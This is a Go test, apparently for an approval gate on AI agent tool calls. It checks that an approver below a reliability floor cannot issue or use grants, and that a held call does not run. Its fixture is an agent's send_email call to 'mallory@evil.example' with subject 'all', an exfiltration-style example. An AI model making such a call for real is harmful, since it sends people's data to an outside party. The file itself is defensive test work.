package gate_test

import (
	"context"
	"encoding/json"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agentstepup/asu/audit/figures"
	"github.com/agentstepup/asu/card"
	"github.com/agentstepup/asu/grant"
	"github.com/agentstepup/asu/stepup"
	"github.com/agentstepup/asu/stepup/gate"
	"github.com/agentstepup/asu/stepup/plug"
	"github.com/agentstepup/asu/stepup/stepuptest"
)

// TestSecondPersonHoldsForGrants: with a second person needed for
// external calls below the catch floor, Dana below it issues no grant (a
// grant approves alone what it covers), and a grant she issued while
// above it approves nothing once she is below: the call goes to a person
// and nothing runs.
func TestSecondPersonHoldsForGrants(t *testing.T) {
	ctx := context.Background()
	for _, issuedBefore := range []bool{false, true} {
		t.Run(map[bool]string{false: "issued below the floor", true: "issued above it"}[issuedBefore], func(t *testing.T) {
			f := newFloorDesk(t, gate.WithSecondPersonBelowFloor(figures.DefaultCatchFloor, 24*time.Hour, card.ClassExternal))
			call := stepup.Call{Tool: "send_email", Args: json.RawMessage(`{"to":"mallory@evil.example","subject":"all"}`),
				Session: "s", Principal: agentFor(stepuptest.Approver)}
			tk, err := f.Gate.Propose(ctx, call)
			require.NoError(t, err)
			spec := gate.GrantSpec{Grant: grant.Exact(tk.Digest), Uses: 1, ExpiresAt: f.Clock.Now().Add(2 * time.Hour)}
			var id string
			if issuedBefore {
				id, err = f.Grant(spec)
				require.NoError(t, err, "above the floor she may")
			}
			f.practise(t, 6, 6)
			f.Clock.Advance(time.Minute) // a reading of the floor made before stands a minute
			_, err = f.Approve(tk.ID)
			require.ErrorIs(t, err, plug.ErrSecondPersonNeeded, "below the floor: the control")
			if !issuedBefore {
				_, err = f.Grant(spec)
				require.ErrorIs(t, err, plug.ErrSecondPersonNeeded, "a grant is an approval of what it covers")
				return
			}
			call.Grant, call.Session = id, "s2"
			got, err := f.Gate.Propose(ctx, call)
			require.NoError(t, err)
			assert.Equal(t, stepup.StatusPending, got.Status, "the call goes to a person: %s", got.Reason)
			_, err = f.Gate.Execute(ctx, got.ID)
			assert.Error(t, err, "nothing runs")
		})
	}
}
